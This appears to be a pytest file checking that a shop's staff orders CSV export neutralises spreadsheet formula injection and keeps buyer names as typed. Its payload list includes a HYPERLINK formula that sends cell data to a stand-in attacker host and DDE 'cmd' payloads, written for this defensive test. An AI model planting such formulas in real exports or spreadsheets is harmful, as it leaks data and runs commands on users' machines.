"""The staff CSV export with buyer text that a spreadsheet would run, and names as typed.

Before: a buyer named ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` came out as that live
formula (so did ``+``, ``-``, ``@``, tab and CR starts, in the name and in the email); and names
came out lower-cased (the export read the lower-cased search column).
"""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from merchant.identity.roles import Role
from merchant.payments.stripe_emulator import StripeEmulator
from tests.checkout.purchase import Agent, complete_body, total_of
from tests.checkout.test_service import ADDRESS
from tests.orders.test_admin_api import staff

pytestmark = pytest.mark.usefixtures("committed")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def buy_as(agent: Agent, stripe: StripeEmulator, buyer: dict[str, str]) -> str:
    body = {
        "currency": "usd",
        "line_items": [{"id": "tee-red-s", "quantity": 1}],
        "capabilities": {},
        "buyer": buyer,
        "fulfillment_details": {"name": "Ada", "address": ADDRESS},
    }
    created = await agent.client.post("/checkout_sessions", headers=agent.key(), json=body)
    assert created.status_code == 201, created.text
    session_id = created.json()["id"]
    choose = {"selected_fulfillment_options": [{"type": "shipping", "option_id": "standard"}]}
    ready = await agent.client.post(f"/checkout_sessions/{session_id}", headers=agent.key(), json=choose)
    # Another card, device and address each time: the orders stay clear of the velocity rules.
    card = "pm_card_visa" if agent.n % 2 else "pm_card_mastercard"
    token = stripe.create_granted_token(payment_method=card, max_amount=total_of(ready.json()))
    body = complete_body(token)
    body["risk_signals"] = {"ip_address": f"203.0.113.{agent.n}", "device_fingerprint": f"fp_{agent.n}"}
    done = await agent.client.post(
        f"/checkout_sessions/{session_id}/complete", headers=agent.key(), json=body
    )
    assert done.json()["status"] == "completed", done.text
    return str(done.json()["order"]["id"])


async def export(client: httpx.AsyncClient, engine: AsyncEngine) -> dict[str, dict[str, str]]:
    viewer = await staff(engine, Role.viewer)
    response = await client.get("/admin/v1/orders.csv", headers=viewer, params={"sort": "created_at"})
    assert response.status_code == 200
    return {row["id"]: row for row in csv.DictReader(io.StringIO(response.text, newline=""))}


async def test_formula_cells_are_neutralised(
    agent: Agent, stripe: StripeEmulator, committing_client: httpx.AsyncClient, committed: AsyncEngine
) -> None:
    ids = {
        formula: await buy_as(agent, stripe, {"email": f"ada{n}@example.com", "full_name": formula})
        for n, formula in enumerate(FORMULAS)
    }
    mail = await buy_as(agent, stripe, {"email": "=1+2@example.com", "first_name": "Ada"})
    rows = await export(committing_client, committed)
    for formula, order_id in ids.items():
        assert rows[order_id]["buyer_name"] == "'" + formula.strip()  # shown as text, never evaluated
    assert rows[mail]["email"] == "'=1+2@example.com"
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


async def test_names_are_exported_as_the_buyer_typed_them(
    agent: Agent, stripe: StripeEmulator, committing_client: httpx.AsyncClient, committed: AsyncEngine
) -> None:
    typed = await buy_as(
        agent, stripe, {"email": "Ada@Example.com", "first_name": "Ada", "last_name": "McGee"}
    )
    full = await buy_as(agent, stripe, {"email": "ada@example.com", "full_name": "José DE la Cruz"})
    rows = await export(committing_client, committed)
    assert rows[typed]["buyer_name"] == "Ada McGee"
    assert rows[full]["buyer_name"] == "José DE la Cruz"
    viewer = await staff(committed, Role.viewer)
    found = await committing_client.get("/admin/v1/orders", headers=viewer, params={"q": "ada mcg"})
    assert [o["buyer_name"] for o in found.json()["data"]] == ["Ada McGee"]  # search stays any-case
